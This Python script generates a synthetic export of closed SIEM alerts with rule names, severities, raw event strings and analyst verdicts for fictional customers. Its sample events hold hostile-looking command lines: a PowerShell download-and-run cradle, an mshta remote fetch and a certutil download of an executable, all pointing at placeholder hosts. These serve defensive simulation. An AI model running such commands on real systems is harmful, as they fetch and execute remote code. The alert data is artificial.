"""Generate alerts_export.csv: closed SIEM alerts with analyst verdicts (sample export)."""
import csv, random, datetime, base64, os

random.seed(1411)
HERE = os.path.dirname(os.path.abspath(__file__))
N = 2400

customers = ["acme-logistics", "harlow-legal", "pinecrest-health", "nordvik-energy", "calder-retail",
             "bluefin-capital", "ostara-foods", "meridian-council", "tessel-manufacturing", "quayside-hotels"]
rules = [
    ("SUSP_PS_ENCODED_CMD", "high"), ("LSASS_ACCESS_NON_SYSTEM", "critical"), ("RDP_BRUTE_FORCE", "medium"),
    ("NEW_SERVICE_INSTALL", "medium"), ("OFFICE_SPAWN_SHELL", "high"), ("RARE_PARENT_CHILD", "low"),
    ("DNS_TUNNEL_HEURISTIC", "medium"), ("SCHTASK_CREATED_TEMP", "medium"), ("AV_DETECTION_QUARANTINED", "low"),
    ("IMPOSSIBLE_TRAVEL_LOGIN", "high"), ("MFA_FATIGUE_PATTERN", "high"), ("WMI_PERSISTENCE", "high"),
]
analysts = ["j.okoro", "m.lind", "s.patel", "a.nowak", "r.castillo", "t.huang", "e.brennan", "k.dubois", "l.ferri"]
hosts = ["WS-%04d" % i for i in range(1, 400)] + ["SRV-APP%02d" % i for i in range(1, 30)]
users = ["svc_backup", "jdoe", "asmith", "admin.mk", "hr.temp3", "svc_sql", "pnguyen", "contractor07"]

def b64(cmd):
    return base64.b64encode(cmd.encode("utf-16le")).decode()[:60] + "..."

def raw_event(rule, host, user):
    if rule == "SUSP_PS_ENCODED_CMD":
        return ("EventID=1 Image=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "
                "CommandLine=\"powershell -nop -w hidden -enc %s\" ParentImage=C:\\Windows\\explorer.exe User=%s\\%s"
                % (b64("IEX (New-Object Net.WebClient).DownloadString('http://x')"), host, user))
    if rule == "LSASS_ACCESS_NON_SYSTEM":
        return ("EventID=10 SourceImage=C:\\Users\\%s\\AppData\\Local\\Temp\\pd.exe TargetImage=C:\\Windows\\system32\\lsass.exe "
                "GrantedAccess=0x1010 CallTrace=C:\\Windows\\SYSTEM32\\ntdll.dll+9d204" % user)
    if rule == "RDP_BRUTE_FORCE":
        return "EventID=4625 LogonType=10 TargetUserName=%s IpAddress=185.%d.%d.%d FailureCount=%d window=5m" % (
            user, random.randint(1, 254), random.randint(1, 254), random.randint(1, 254), random.randint(20, 400))
    if rule == "NEW_SERVICE_INSTALL":
        return "EventID=7045 ServiceName=%s ImagePath=C:\\ProgramData\\%s.exe StartType=auto AccountName=LocalSystem" % (
            random.choice(["UpdSvc", "AgentHelper", "VeeamDeploy", "psexesvc"]), random.choice(["upd", "agent", "svc"]))
    if rule == "OFFICE_SPAWN_SHELL":
        return "EventID=1 ParentImage=C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE Image=C:\\Windows\\System32\\cmd.exe CommandLine=\"cmd /c %s\"" % random.choice(
            ["mshta http://t.co/a", "echo test", "certutil -urlcache -f http://y/a.txt a.exe"])
    if rule == "DNS_TUNNEL_HEURISTIC":
        return "query=%s.%s.example-cdn.net qtype=TXT len=%d entropy=%.2f host=%s" % (
            "".join(random.choice("abcdef0123456789") for _ in range(40)), random.randint(1, 9), random.randint(120, 250), random.uniform(3.2, 4.9), host)
    if rule == "IMPOSSIBLE_TRAVEL_LOGIN":
        return "AAD SignIn user=%s@corp loc1=GB loc2=%s delta_min=%d app=Office365 result=success" % (
            user, random.choice(["NG", "BR", "VN", "US", "NL"]), random.randint(8, 90))
    if rule == "MFA_FATIGUE_PATTERN":
        return "AAD MFA user=%s@corp push_denied=%d push_approved=%d window=10m" % (user, random.randint(5, 30), random.randint(0, 1))
    return "EventID=%d Host=%s User=%s Rule=%s Detail=%s" % (
        random.choice([1, 11, 13, 4698, 5861]), host, user, rule, random.choice(["Temp path", "rare binary", "signed by unknown CA", "seen 1x in fleet"]))

verdict_weights = {"critical": (0.45, 0.25, 0.30), "high": (0.25, 0.45, 0.30), "medium": (0.10, 0.70, 0.20), "low": (0.03, 0.90, 0.07)}
start = datetime.datetime(2024, 1, 2, 0, 0)
with open(os.path.join(HERE, "alerts_export.csv"), "w", newline="", encoding="utf-8") as f:
    w = csv.writer(f)
    w.writerow(["alert_id", "created_at", "customer", "rule_name", "severity", "raw_event", "analyst_verdict", "closed_by"])
    for i in range(N):
        rule, sev = random.choice(rules)
        host, user = random.choice(hosts), random.choice(users)
        ts = start + datetime.timedelta(minutes=random.randint(0, 60 * 24 * 120))
        v = random.choices(["true_positive", "benign", "escalate_l2"], weights=verdict_weights[sev])[0]
        w.writerow(["BW-%07d" % (3100000 + i), ts.strftime("%Y-%m-%dT%H:%M:%SZ"), random.choice(customers),
                    rule, sev, raw_event(rule, host, user), v, random.choice(analysts)])
print("wrote", N, "rows")
